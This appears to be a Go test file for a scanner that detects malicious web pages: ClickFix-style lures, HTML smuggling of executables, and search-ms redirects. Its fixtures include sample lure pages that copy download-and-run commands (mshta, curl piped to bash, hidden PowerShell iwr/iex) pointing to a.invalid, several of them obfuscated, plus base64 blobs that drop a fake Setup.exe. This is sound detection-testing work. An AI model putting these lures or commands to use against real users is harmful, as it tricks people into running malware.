package script

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func onPage(title, body, code string) string {
	return "<!doctype html><html><head><title>" + title + "</title></head><body>\n" + body + "\n<script>" + code + "</script>\n</body></html>\n"
}

const runBoxText = "<p>Your microphone is blocked. Press <kbd>Win</kbd> + <kbd>R</kbd>, then Ctrl + V and press Enter.</p>"

// pastes are pages that have their reader run a command.
var pastes = []struct{ name, page, host string }{
	{"run box", onPage("Join", runBoxText, `function fix(){ navigator.clipboard.writeText("mshta https://a.invalid/fix") }`), "a.invalid"},
	{"terminal", onPage("Join", "<h1>Can't access your microphone</h1><p>On a Mac open Terminal, press Cmd + V, press Enter.</p>", `navigator.clipboard.writeText("curl -s https://a.invalid/mac | bash")`), "a.invalid"},
	{"human check", onPage("Checking", "<p>Verify you are human</p><ol><li>Press Windows Key + R<li>Press CTRL+V<li>Enter</ol>", "const c = 'powershell -w hidden -c \"iwr https://a.invalid/m | iex\"'; const t = document.createElement('textarea'); t.value = c; document.body.append(t); t.select(); document.execCommand('copy')"), "a.invalid"},
	{"base64", onPage("Join", runBoxText, "navigator.clipboard.writeText(atob('"+b64("mshta https://a.invalid/fix")+"'))"), "a.invalid"},
	{"pieces", onPage("Join", runBoxText, "var a = 'ms' + 'hta ht', b = 'tps://a.inv' + 'alid/fix'; navigator['clipboard']['writeText'](a + b)"), "a.invalid"},
	{"data attribute", "<html><body>" + runBoxText + `<button data-cmd="mshta https://a.invalid/fix" onclick="navigator.clipboard.writeText(this.dataset.cmd)">Fix</button></body></html>`, "a.invalid"},
	{"hidden field", "<html><body>" + runBoxText + `<textarea id=x style="position:absolute;left:-9999px">mshta https://a.invalid/fix</textarea><script>x.select();document.execCommand("copy")</script></body></html>`, "a.invalid"},
	{"hidden element", "<html><body>" + runBoxText + `<div id=x style="display:none">mshta https://a.invalid/fix</div><script>navigator.clipboard.writeText(x.innerText)</script></body></html>`, "a.invalid"},
	{"copy event", onPage("Join", runBoxText, "document.addEventListener('copy', e => { e.clipboardData.setData('text/plain', 'mshta https://a.invalid/fix'); e.preventDefault(); })"), "a.invalid"},
	{"instructions in the script", onPage("Join", "<div id=app></div>", "document.getElementById('app').innerHTML = '<p>Press Windows + R, then CTRL + V, then press Enter</p>'; navigator.clipboard.writeText('mshta https://a.invalid/fix')"), "a.invalid"},
	{"German", onPage("Beitreten", "<p>Mikrofon blockiert. Drücken Sie Windows-Taste + R, dann Strg + V und Enter.</p>", `navigator.clipboard.writeText("mshta https://a.invalid/fix")`), "a.invalid"},
	{"Russian", onPage("Вход", "<p>Микрофон недоступен. Откройте Терминал, вставьте команду и нажмите Enter.</p>", `navigator.clipboard.writeText("curl -s https://a.invalid/m | zsh")`), "a.invalid"},
	{"Japanese", onPage("参加", "<p>マイクが使えません。ターミナルを開き、貼り付けてください。</p>", `navigator.clipboard.writeText("curl -s https://a.invalid/m | zsh")`), "a.invalid"},
	{"picture", `<svg xmlns="http://www.w3.org/2000/svg"><text>Press Windows + R and Ctrl + V</text><script><![CDATA[navigator.clipboard.writeText("mshta https://a.invalid/fix")]]></script></svg>`, "a.invalid"},
	{"saved with its parts", "From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<html><body><p>Press Windows + R, then Ctrl + V</p><script>navigator.clip=\r\nboard.writeText(=22mshta https://a.invalid/fix=22)</script></body></html>\r\n--x--\r\n", "a.invalid"},
	{"wide", wide(onPage("Join", runBoxText, `navigator.clipboard.writeText("mshta https://a.invalid/fix")`), false, true), "a.invalid"},
}

func TestPastes(t *testing.T) {
	for _, p := range pastes {
		s, _ := Analyse("page.html", []byte(p.page))
		if s == nil || !slices.Contains(s.Traits, TraitPageCopiesCommand) || len(s.Fetches) == 0 || s.Fetches[0].Host != p.host {
			t.Errorf("%s: %+v", p.name, s)
		}
	}
}

// TestHonestPages holds that documentation with copy buttons, and pages that
// speak of key strokes, state nothing.
func TestHonestPages(t *testing.T) {
	copyButton := `document.querySelectorAll('button').forEach(b => b.onclick = () => navigator.clipboard.writeText(b.previousElementSibling.innerText))`
	for name, page := range map[string]string{
		"installer line":         onPage("Tool", "<p>Paste this in a terminal:</p><pre>curl -fsSL https://get.a.invalid | sh</pre><button>Copy</button>", copyButton),
		"installer line twice":   onPage("Tool", `<p>Paste this in a terminal:</p><pre><span>curl</span> -fsSL https://get.a.invalid | sh</pre><button data-clipboard-text="curl -fsSL https://get.a.invalid | sh">Copy</button>`, "new ClipboardJS('button')"),
		"installer per system":   onPage("Tool", "<p>Install it: paste into your terminal</p><div id=c></div>", "const c = {mac: 'curl -fsSL https://get.a.invalid | sh', win: 'irm https://get.a.invalid/w | iex'}; navigator.clipboard.writeText(c.mac)"),
		"help with the run box":  onPage("Help", "<p>Press Windows + R, type <code>cmd</code> and press Enter. Then paste: <code>ipconfig /flushdns</code></p>", copyButton),
		"run box, shown command": onPage("Help", "<p>Press Windows + R and paste <code>powershell -c \"irm https://get.a.invalid | iex\"</code></p>", "navigator.clipboard.writeText('powershell -c \"irm https://get.a.invalid | iex\"')"),
		"microphone help":        onPage("Help", "<p>Is your microphone blocked? Open the settings. On Linux open a terminal and paste:</p><pre>pulseaudio -k</pre>", copyButton),
		"meeting page":           onPage("Join", "<p>Check your microphone and camera</p><button>Copy invite</button>", "navigator.clipboard.writeText('https://meet.a.invalid/j/1'); var cdn = 'https://cdn.a.invalid/x.js'"),
		"captcha":                onPage("Check", "<p>Verify you are human</p>", "window.turnstile.render('#c'); navigator.clipboard.writeText(location.href)"),
		"report":                 onPage("ClickFix explained", "<p>The page tells its victim to press Windows + R and paste <code>mshta https://a[.]invalid/fix</code>.</p>", copyButton),
		"exported table":         onPage("Table", "<p>Download</p>", "const u = URL.createObjectURL(new Blob([atob('"+base64.StdEncoding.EncodeToString([]byte("PK\x03\x04"+strings.Repeat("\x00", 22)+"\x13\x00\x00\x00[Content_Types].xml"+strings.Repeat("x", 1200)))+"')])); a.download = 'table.xlsx'"),
		"picture":                onPage("Picture", "<img src=\"data:image/png;base64,"+strings.Repeat("iVBORw0K", 300)+"\">", "a.download = 'x.png'; URL.createObjectURL(b)"),
		"search on this machine": "<html><body><a href=\"search-ms:query=report&crumb=location:C%3A%5CUsers\">find</a></body></html>",
	} {
		if s, _ := Analyse("page.html", []byte(page)); s != nil {
			t.Errorf("%s: %+v", name, s)
		}
	}
}

// TestHostilePages reads markup that makes a careless reader slow: each has to
// end.
func TestHostilePages(t *testing.T) {
	fill := func(head, part string) string { return head + strings.Repeat(part, (1<<18)/len(part)) }
	for _, page := range []string{
		fill("<html>clipboard", "<a b=\""), fill("<html>clipboard", "<textarea>"), fill("<html>clipboard", "<!--"), fill("<html>clipboard", "<script>"), fill("<html>clipboard", "<div hidden style='display:none'>x"),
		fill("<html><script>navigator.clipboard.writeText('x')</script>Windows + R", "<textarea>mshta https://a.invalid/x</textarea>"), fill("<html>search-ms:", "search-ms:location"),
		fill("MIME-Version: 1.0\nmultipart/related\nclipboard", "=3D=\n"),
	} {
		Analyse("page.html", []byte(page))
	}
}

func TestSmuggling(t *testing.T) {
	program := base64.StdEncoding.EncodeToString([]byte("MZ" + strings.Repeat("\x90\x00", 900)))
	archive := base64.StdEncoding.EncodeToString([]byte("PK\x03\x04" + strings.Repeat("\x00", 22) + "\x09\x00\x00\x00setup.exe" + strings.Repeat("x", 1200)))
	for name, page := range map[string]string{
		"blob":       onPage("Zoom", "", "const d = '"+program+"'; const b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]); const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'Setup.exe'; a.click()"),
		"archive":    onPage("Zoom", "", "const d = '"+archive+"'; a.href = URL.createObjectURL(new Blob([atob(d)])); a.download = 'Setup.zip'; a.click()"),
		"data link":  "<html><body><a download=\"Zoom.exe\" href=\"data:application/octet-stream;base64," + program + "\">Download</a></body></html>",
		"data click": onPage("Zoom", "", "a.download = 'x.exe'; a.href = 'data:application/octet-stream;base64,"+program+"'; a.click()"),
	} {
		s, _ := Analyse("page.html", []byte(page))
		if s == nil || !slices.Contains(s.Traits, TraitSmugglesProgram) {
			t.Errorf("%s: %+v", name, s)
		}
	}
}

func TestRemoteSearch(t *testing.T) {
	for _, page := range []string{
		`<html><head><meta http-equiv="refresh" content="0; url=search-ms:query=Zoom&crumb=location:\\a.invalid\pub&displayname=Downloads"></head></html>`,
		`<html><body><script>window.location = "search:query=x&crumb=location:%5C%5Ca.invalid%5Cpub&displayname=Downloads"</script></body></html>`,
	} {
		s, _ := Analyse("page.html", []byte(page))
		if s == nil || !slices.Contains(s.Traits, TraitRemoteSearch) || !slices.Contains(s.Hosts, "a.invalid") {
			t.Errorf("%q: %+v", page, s)
		}
	}
}

// TestPagesOfTheMachine reads the documentation of the machine: no page of it
// makes its reader run anything.
func TestPagesOfTheMachine(t *testing.T) {
	read := 0
	err := filepath.WalkDir("/usr/share/doc", func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".html") || read >= 2000 {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		read++
		if s, _ := Analyse("page.html", data); s != nil && s.Language == langPage {
			t.Errorf("%s: %v", p, s.Traits)
		}
		return nil
	})
	t.Logf("%d pages, %v", read, err)
}
